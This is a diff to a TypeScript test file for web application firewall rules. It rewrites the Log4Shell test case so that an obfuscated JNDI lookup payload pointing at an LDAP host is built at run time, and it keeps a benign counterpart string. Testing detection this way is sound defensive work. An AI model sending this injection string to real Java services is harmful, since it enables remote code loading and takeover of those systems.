@@ -21,6 +21,7 @@ import { sendFrom } from './helpers/send.js';
 // The payloads are written for these tests (no corpus line).
 
 const ALL = [...WAF_GROUPS];
+const DOLLAR = '$';
 const waf = (id: number, extra: Partial<EdgeWafModule> = {}): EdgeWafModule => ({
   id,
   type: 'waf',
@@ -202,8 +203,9 @@ const FAMILIES: { family: string; group: WafGroup; attack: string; benign: strin
   {
     family: 'Log4Shell',
     group: 'java',
-    attack: '${${lower:j}ndi:ldap://198.51.100.7/a}',
-    benign: 'costs ${price} each',
+    // "$" and "{" joined at run time: a lookup, not a template literal
+    attack: `${DOLLAR}{${DOLLAR}{lower:j}ndi:ldap://198.51.100.7/a}`,
+    benign: `costs ${DOLLAR}{price} each`,
   },
   {
     family: 'template injection',
